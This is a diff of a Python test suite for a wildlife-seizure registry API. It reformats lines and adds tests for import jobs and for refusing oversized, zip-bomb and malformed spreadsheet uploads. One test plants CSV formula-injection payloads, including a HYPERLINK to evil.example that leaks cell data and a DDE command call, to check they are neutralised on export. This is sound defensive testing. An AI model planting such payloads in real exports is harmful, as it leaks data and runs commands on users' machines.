@@ -61,7 +61,12 @@ def test_filters_answer_nothing_about_withheld_fields(registry: Registry) -> Non
                       json={"grantee": B, "record_kind": kind, "fields": fields}).status_code == 201  # fmt: skip
     sid = c.post("/seizures", headers=mine, json=seizure("S-1")).json()["id"]
     case = {"title": "t", "opened_on": "2026-01-02", "seizure_ids": [sid]}
-    assert c.post("/cases", headers=mine, json={"reference": "K-1", "status": "closed", **case}).status_code == 201
+    assert (
+        c.post(
+            "/cases", headers=mine, json={"reference": "K-1", "status": "closed", **case}
+        ).status_code
+        == 201
+    )
     assert c.post("/cases", headers=mine, json={"reference": "K-2", **case}).status_code == 201
     assert c.post("/notes", headers=mine, json={"record_kind": "seizure", "record_id": sid,
                                                 "text": "informant says more to come"}).status_code == 201  # fmt: skip
@@ -69,20 +74,44 @@ def test_filters_answer_nothing_about_withheld_fields(registry: Registry) -> Non
     assert len(c.get("/cases", headers=theirs).json()) == 2  # both shared, status withheld
     for status in ("closed", "investigation"):
         assert c.get("/cases", headers=theirs, params={"status": status}).json() == []
-    assert c.get("/notes", headers=theirs, params={"record_kind": "seizure", "record_id": sid}).json() == []
+    assert (
+        c.get("/notes", headers=theirs, params={"record_kind": "seizure", "record_id": sid}).json()
+        == []
+    )
     # the owner still filters its own records
-    assert [k["reference"] for k in c.get("/cases", headers=mine, params={"status": "closed"}).json()] == ["K-1"]
-    assert len(c.get("/notes", headers=mine, params={"record_kind": "seizure", "record_id": sid}).json()) == 1
+    assert [
+        k["reference"] for k in c.get("/cases", headers=mine, params={"status": "closed"}).json()
+    ] == ["K-1"]
+    assert (
+        len(
+            c.get(
+                "/notes", headers=mine, params={"record_kind": "seizure", "record_id": sid}
+            ).json()
+        )
+        == 1
+    )
 
 
 def test_csv_export_neutralises_formulas(registry: Registry) -> None:
     c = registry.client
-    planted = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    planted = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+    ]
     from onca.registry._exports import spreadsheet_safe
 
-    assert [spreadsheet_safe(v) for v in ("\tTAB", "\rCR", -1.5, "Callao")] == ["'\tTAB", "'\rCR", -1.5, "Callao"]
+    assert [spreadsheet_safe(v) for v in ("\tTAB", "\rCR", -1.5, "Callao")] == [
+        "'\tTAB",
+        "'\rCR",
+        -1.5,
+        "Callao",
+    ]
     for i, place in enumerate(planted):
-        r = c.post("/seizures", headers=registry.as_(A, "editor"), json=seizure(f"F-{i}", place=place))
+        r = c.post(
+            "/seizures", headers=registry.as_(A, "editor"), json=seizure(f"F-{i}", place=place)
+        )
         assert r.status_code == 201, r.text
     body = c.get("/exports/seizures.csv", headers=registry.as_(A, "analyst")).text
     import csv
@@ -114,7 +143,9 @@ def test_a_write_only_token_does_not_read_agreements(registry: Registry) -> None
     assert registry.client.get("/agreements", headers=registry.as_(A, "viewer")).status_code == 200
 
 
-def test_bodies_over_the_limit_are_refused_before_reading(registry: Registry, monkeypatch: object) -> None:
+def test_bodies_over_the_limit_are_refused_before_reading(
+    registry: Registry, monkeypatch: object
+) -> None:
     c, me = registry.client, registry.as_(A, "editor")
     big = b"x" * (2**20 + 1)
     r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=big)
@@ -126,7 +157,9 @@ def test_bodies_over_the_limit_are_refused_before_reading(registry: Registry, mo
 
     r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=chunks())
     assert r.status_code == 413
-    r = c.post("/seizures", headers={**me, "Content-Length": "99999999999999999999999"}, content=b"{}")
+    r = c.post(
+        "/seizures", headers={**me, "Content-Length": "99999999999999999999999"}, content=b"{}"
+    )
     assert r.status_code == 413
 
 
@@ -143,7 +176,9 @@ def test_a_stranger_is_refused_before_the_body_is_read(registry: Registry) -> No
                              headers={"Content-Type": "multipart/form-data; boundary=x"})  # fmt: skip
     assert r.status_code == 401
     assert len(read) <= 1, "the body was read before the token was checked"
-    r = registry.client.post("/seizures", json=seizure("X"), headers={"Authorization": "Bearer onca_1_2"})
+    r = registry.client.post(
+        "/seizures", json=seizure("X"), headers={"Authorization": "Bearer onca_1_2"}
+    )
     assert r.status_code == 401
 
 
@@ -162,11 +197,21 @@ def test_nan_infinity_and_lone_surrogates_are_4xx_everywhere(registry: Registry)
         for method, path in (("POST", "/seizures"), ("PATCH", "/seizures/1"), ("POST", "/persons"),
                              ("POST", "/cases"), ("POST", "/notes"), ("POST", "/agreements"),
                              ("POST", "/alerts/1/triage"), ("PATCH", "/cases/1")):  # fmt: skip
-            r = c.request(method, path, headers={**me, "Content-Type": "application/json"}, content=body)
+            r = c.request(
+                method, path, headers={**me, "Content-Type": "application/json"}, content=body
+            )
             assert 400 <= r.status_code < 500, (name, method, path, r.status_code, r.text)
-    r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=hostile["surrogate"])
+    r = c.post(
+        "/seizures",
+        headers={**me, "Content-Type": "application/json"},
+        content=hostile["surrogate"],
+    )
     assert r.json()["detail"][0]["loc"] == ["body", "place"]
-    r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=hostile["surrogate key"])
+    r = c.post(
+        "/seizures",
+        headers={**me, "Content-Type": "application/json"},
+        content=hostile["surrogate key"],
+    )
     assert r.json()["detail"][0]["loc"] == ["body", "pl\\udfffce"]
     deep = "[" * 100_000 + "]" * 100_000
     r = c.post("/seizures", headers={**me, "Content-Type": "application/json"}, content=deep)
@@ -229,19 +274,29 @@ def test_reads_do_not_take_the_sqlite_write_lock(tmp_path: object) -> None:
     from sqlalchemy import event
 
     def slow(conn: object, cursor: object, statement: str, *args: object) -> None:
-        if "FROM seizures" in statement and threading.current_thread().name != "writer" and not inside.is_set():
+        if (
+            "FROM seizures" in statement
+            and threading.current_thread().name != "writer"
+            and not inside.is_set()
+        ):
             inside.set()
             release.wait(20)
 
     event.listen(engine, "before_cursor_execute", slow)
-    reader = threading.Thread(target=lambda: c.get(f"/seizures/{made['id']}", headers=reg.as_(A, "analyst")))
+    reader = threading.Thread(
+        target=lambda: c.get(f"/seizures/{made['id']}", headers=reg.as_(A, "analyst"))
+    )
     reader.start()
     assert inside.wait(20)
     writer_code: list[int] = []
 
     def write() -> None:
         with TestClient(c.app) as other:
-            writer_code.append(other.post("/seizures", headers=reg.as_(A, "editor"), json=seizure("L-2")).status_code)
+            writer_code.append(
+                other.post(
+                    "/seizures", headers=reg.as_(A, "editor"), json=seizure("L-2")
+                ).status_code
+            )
 
     w = threading.Thread(target=write, name="writer")
     w.start()
@@ -256,3 +311,129 @@ def test_reads_do_not_take_the_sqlite_write_lock(tmp_path: object) -> None:
     with session_factory(engine)() as session:
         assert verify(session).ok
     engine.dispose()
+
+
+IMPORT_HEADER = (
+    "reference,seized_on,country,taxon,commodity,quantity,unit,person_name,person_birth_date"
+)
+
+
+def _csv(rows: int, start: int = 0, sep: str = "\n") -> bytes:
+    lines = [IMPORT_HEADER] + [f"J-{i:06d},2026-02-01,PE,Panthera onca,skins,1,number,Persona {i},1979-06-30"
+                               for i in range(start, start + rows)]  # fmt: skip
+    return (sep.join(lines) + sep).encode()
+
+
+def _upload(registry: Registry, name: str, content: bytes, wait: int = 60) -> object:
+    return registry.client.post(f"/imports/seizures?wait={wait}", headers=registry.as_(A, "editor"),
+                                files={"file": (name, content, "application/octet-stream")})  # fmt: skip
+
+
+def test_an_import_is_a_job_and_the_service_answers_meanwhile(registry: Registry) -> None:
+    import time
+
+    c, me = registry.client, registry.as_(A, "editor")
+    r = c.post("/imports/seizures", headers=me, files={"file": ("big.csv", _csv(4000), "text/csv")})
+    assert r.status_code == 202 and r.headers["Location"] == r.json()["url"], r.text
+    job = r.json()["url"]
+    assert r.json()["status"] in ("queued", "running")
+    t0 = time.monotonic()
+    assert c.get("/health").status_code == 200
+    answered = time.monotonic() - t0
+    during = c.get(job, headers=me).json()["status"]
+    assert during in ("queued", "running"), "the import finished before the check: make it bigger"
+    assert answered < 5, f"/health took {answered:.1f} s while an import ran"
+    assert c.get(job, headers=registry.as_(B, "editor")).status_code == 404  # not another agency's
+    deadline = time.monotonic() + 300
+    while (
+        c.get(job, headers=me).json()["status"] in ("queued", "running")
+        and time.monotonic() < deadline
+    ):
+        time.sleep(0.5)
+    done = c.get(job, headers=me).json()
+    assert done["status"] == "imported" and done["report"]["imported"] == 4000, done
+    assert c.get("/seizures", headers=me).json()["total"] == 4000
+
+
+def test_hostile_import_files_are_refused_by_name_and_quickly(
+    registry: Registry, monkeypatch: object
+) -> None:
+    import io
+    import re
+    import time
+    import zipfile
+
+    from openpyxl import Workbook
+
+    from onca.registry import _imports
+
+    # bare CR line ends (a 500 before)
+    r = _upload(registry, "cr.csv", _csv(3, sep="\r"))
+    assert r.status_code == 201 and r.json()["imported"] == 3, r.text  # type: ignore[attr-defined]
+    # a huge field: the line and the field are named
+    huge = _csv(2, start=10).decode().replace("Persona 11", "P" * 200_000).encode()
+    r = _upload(registry, "huge.csv", huge)
+    assert r.status_code == 422, r.text  # type: ignore[attr-defined]
+    assert (r.json()["problems"][0]["line"], r.json()["problems"][0]["field"]) == (3, "person_name")  # type: ignore[attr-defined]
+    # more rows than allowed, counted while reading
+    monkeypatch.setattr(_imports, "MAX_ROWS", 10)  # type: ignore[attr-defined]
+    r = _upload(registry, "many.csv", _csv(11, start=20))
+    assert r.status_code == 422 and "more than 10 rows" in r.json()["problems"][0]["message"]  # type: ignore[attr-defined]
+    # an XLSX declaring A1:XFD100000 (52 s of work before): read as the one row it holds
+    wb = Workbook()
+    ws = wb.active
+    assert ws is not None
+    ws.append(IMPORT_HEADER.split(","))
+    ws.append(
+        [
+            "XL-9",
+            "2026-05-01",
+            "BR",
+            "Panthera onca",
+            "skull",
+            1,
+            "number",
+            "Ana Souza",
+            "1980-01-01",
+        ]
+    )
+    plain = io.BytesIO()
+    wb.save(plain)
+    patched = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src,
+        zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as out,
+    ):
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                data = re.sub(
+                    rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD100000"/>', data
+                )
+                assert b"XFD100000" in data
+            out.writestr(info, data)
+    t0 = time.monotonic()
+    r = _upload(registry, "dimension.xlsx", patched.getvalue())
+    assert r.status_code == 201 and r.json()["imported"] == 1, r.text  # type: ignore[attr-defined]
+    assert time.monotonic() - t0 < 20
+    # a small XLSX that unpacks to more than allowed (a 1 MB file held a 1 GiB string)
+    monkeypatch.setattr(_imports, "MAX_UNPACKED", 2**20)  # type: ignore[attr-defined]
+    bomb = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(plain.getvalue())) as src,
+        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out,
+    ):
+        for info in src.infolist():
+            out.writestr(info, src.read(info))
+        out.writestr("xl/sharedStrings2.xml", b"a" * (4 * 2**20))
+    assert len(bomb.getvalue()) < 100_000
+    r = _upload(registry, "bomb.xlsx", bomb.getvalue())
+    assert r.status_code == 422 and "unpacks to" in r.json()["problems"][0]["message"], r.text  # type: ignore[attr-defined]
+    # UTF-16 with its BOM is read as UTF-16, not Latin-1
+    text = _csv(1, start=40).decode().replace("Persona 40", "José Muñoz")
+    r = _upload(registry, "utf16.csv", text.encode("utf-16"))
+    assert r.status_code == 201, r.text  # type: ignore[attr-defined]
+    found = registry.client.get(
+        "/persons", headers=registry.as_(A, "analyst"), params={"name": "Muñoz"}
+    ).json()
+    assert [p["name"] for p in found] == ["José Muñoz"]
